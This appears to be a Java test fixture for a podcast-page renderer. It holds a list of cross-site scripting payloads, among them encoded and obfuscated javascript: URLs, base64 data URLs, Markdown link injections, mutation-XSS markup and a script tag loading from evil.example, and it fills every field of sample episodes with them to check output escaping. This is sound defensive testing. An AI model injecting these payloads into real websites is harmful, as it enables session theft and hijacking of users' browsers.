package dev.nuggets.render;

import dev.nuggets.core.Episode;
import dev.nuggets.core.Person;
import dev.nuggets.core.Role;
import dev.nuggets.core.Section;
import dev.nuggets.core.Takeaway;
import java.time.Duration;
import java.util.List;

/** Cross-site scripting payloads, and episodes with one of them in every text and URL field. */
public final class Xss {
  private Xss() {}

  public static final List<String> PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "\"><script>alert(1)</script>",
          "' onmouseover='alert(1)",
          "\" onfocus=\"alert(1)\" autofocus=\"",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          " javascript:alert(1)",
          "java\tscript:alert(1)",
          "java\nscript:alert(1)",
          "\u0001javascript:alert(1)",
          "&#106;avascript:alert(1)",
          "&#x6A;avascript:alert(1)",
          "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)",
          "javascript&colon;alert(1)",
          "javascript&#58;alert(1)",
          "jav&#x09;ascript:alert(1)",
          "data:text/html,<script>alert(1)</script>",
          "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "vbscript:msgbox(1)",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "<!-- x --><style>body{display:none}</style>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "[x](javascript:alert(1))",
          "![x](javascript:alert(1))",
          "<javascript:alert(1)>",
          "[x]: javascript:alert(1)",
          "`<script>`",
          "<div onclick=alert(1)>x</div>");

  /** An episode with {@code payload} in every text field and as its link. */
  public static Episode episode(String payload) {
    String text = "x " + payload; // a payload of spaces and controls alone would be blank
    return Episode.builder()
        .title(text)
        .podcastTitle(text)
        .addPeople(Person.builder().name(text).role(Role.GUEST).description(text).build())
        .addPeople(Person.builder().name(text).role(Role.of(text)).build())
        .link(payload.isBlank() ? "x" : payload)
        .addTakeaways(Takeaway.builder().label(text).text(text).start(Duration.ofSeconds(5)).build())
        .addTakeaways(Takeaway.of(text))
        .addSections(Section.builder().heading(text).addParagraphs(text, text).start(Duration.ZERO).build())
        .addSections(Section.builder().heading(text).addParagraphs(text).listedInToc(false).build())
        .build();
  }
}
